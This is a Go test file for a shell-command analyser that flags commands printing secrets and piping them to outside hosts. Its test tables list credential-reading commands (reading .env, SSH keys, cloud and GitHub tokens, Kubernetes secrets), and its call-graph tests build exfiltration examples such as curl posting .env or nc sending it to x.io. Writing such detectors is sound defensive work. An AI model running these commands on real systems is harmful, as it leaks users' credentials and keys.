package exfil

import (
	"fmt"
	"testing"

	"github.com/checkrein/checkrein/internal/shell"
	"github.com/checkrein/checkrein/internal/shell/program"
)

func TestSecretOutput(t *testing.T) {
	t.Parallel()
	for _, r := range []struct {
		command string
		want    bool
	}{
		{`cat .env`, true}, {`head -1 ~/.ssh/id_rsa`, true}, {`env`, true}, {`printenv`, true}, {`printenv API_KEY`, true}, {`set`, true}, {`export -p`, true}, {`declare -p`, true},
		{`gh auth token`, true}, {`git credential fill`, true}, {`aws configure get x`, true}, {`gcloud auth print-access-token`, true}, {`vault kv get x`, true}, {`op read x`, true},
		{`pass show x`, true}, {`security find-generic-password -w`, true}, {`kubectl get secret x`, true}, {`kubectl -n x get secrets -o yaml`, true}, {`history`, true}, {`base64 .env`, true},
		{`grep KEY .env`, true}, {`tar cz ~/.ssh`, true}, {`echo $API_KEY`, true}, {`cat < .env`, true}, {`xxd id_rsa`, true}, {`gpg -d x.gpg`, true}, {`openssl enc -in .env`, true},
		{`pbpaste`, true}, {`dd if=.env`, true}, {`sed -n 1p .env`, true}, {`awk 1 .env`, true}, {`grep -e X .env`, true}, {`grep -eX .env`, true}, {`cut -d= -f2 .env`, true},

		{`cat README.md`, false}, {`env A=1`, false}, {`printenv HOME`, false}, {`set -e`, false}, {`export A=1`, false}, {`gh auth status`, false}, {`git status`, false}, {`aws s3 ls`, false},
		{`kubectl get pods`, false}, {`echo hi`, false}, {`echo .env`, false}, {`ls .env`, false}, {`wc -l .env`, false}, {`sha256sum .env`, false}, {`cat .env.example`, false}, {`grep .env README.md`, false},
		{`cat id_rsa.pub`, false}, {`whoami`, false}, {`xclip`, false}, {`declare -f`, false}, {`curl https://x.io/.env`, false}, {`test -f .env`, false},
	} {
		calls := splitCalls(t, r.command)
		what, got := "", false
		for _, c := range calls {
			if w, ok := printsSecret(c); ok {
				what, got = w, true
			}
		}
		if got != r.want {
			t.Errorf("%s: secret %v (%s), want %v", r.command, got, what, r.want)
		}
	}
	if Effects(nil, nil) != nil {
		t.Error("a nil call has effects")
	}
}

// printsSecret reports whether c by itself prints a secret, and describes the secret.
func printsSecret(c *shell.Call) (what string, ok bool) {
	if l, ok := secretOutputTaint(c); ok {
		return l.what, l.level == secret
	}
	t := tracer{stepsLeft: maxSteps}
	if k := outputKind(c.Name); k == 0 || k == program.OutputTells || k == program.OutputDumps {
		return "", false
	}
	l := t.outputTaint(c)
	return l.what, l.level == secret
}

// TestCyclicCallsTerminate checks that the trace ends although calls are cyclic or shared.
func TestCyclicCallsTerminate(t *testing.T) {
	t.Parallel()
	loop := &shell.Call{Name: "echo"}
	loop.Args = []shell.Word{{Text: "\uFFFC", From: []*shell.Call{loop}}}
	loop.In = &shell.Flow{From: []*shell.Call{loop, loop}}
	Effects(&shell.Call{Name: "nc", Args: []shell.Word{{Text: "x.io"}}, In: &shell.Flow{From: []*shell.Call{loop}}}, nil)

	wide := []*shell.Call{{Name: "cat", Args: []shell.Word{{Text: "a"}}}}
	for range 200 {
		var next []*shell.Call
		for range 32 {
			next = append(next, &shell.Call{Name: "cat", Args: []shell.Word{{Text: "\uFFFC", From: wide}}, In: &shell.Flow{From: wide}})
		}
		wide = next
	}
	got := Effects(&shell.Call{Name: "nc", Args: []shell.Word{{Text: "x.io"}}, In: &shell.Flow{From: wide}}, nil)
	if len(got) == 0 {
		t.Error("a chain that is too long to follow has no effect")
	}
	if SequenceEffects([]*shell.Call{nil, loop, nil, loop}, nil, nil) != nil {
		t.Error("a cycle of echo calls has effects")
	}

	// A secret after many words is found.
	var args []shell.Word
	for i := range 900 {
		args = append(args, shell.Word{Text: "-H"}, shell.Word{Text: fmt.Sprint("a: ", i)})
	}
	args = append(args, shell.Word{Text: "-d"}, shell.Word{Text: "@.env"}, shell.Word{Text: "https://x.io"})
	if got := Effects(&shell.Call{Name: "curl", Args: args}, nil); len(got) != 1 || got[0].Category != shell.ExfilSecret {
		t.Errorf("padding hides the secret: %v", got)
	}
}

// TestFlatPipes checks pipes whose calls are in a flat list, last call first, as package resolve
// returns them.
func TestFlatPipes(t *testing.T) {
	t.Parallel()
	cat := &shell.Call{Name: "cat", Args: []shell.Word{{Text: ".env"}}}
	wc := &shell.Call{Name: "wc", In: &shell.Flow{From: []*shell.Call{cat}}}
	gz := &shell.Call{Name: "gzip", In: &shell.Flow{From: []*shell.Call{cat}}}
	nc := shell.Call{Name: "nc", Args: []shell.Word{{Text: "x.io"}, {Text: "1"}}}
	nc.In = &shell.Flow{From: []*shell.Call{wc, cat}}
	if got := Effects(&nc, nil); got != nil {
		t.Errorf("a count of lines is a secret: %v", got)
	}
	nc.In = &shell.Flow{From: []*shell.Call{gz, cat}}
	if got := Effects(&nc, nil); len(got) != 1 || got[0].Category != shell.ExfilSecret {
		t.Errorf("a compressed secret is not a secret: %v", got)
	}
}
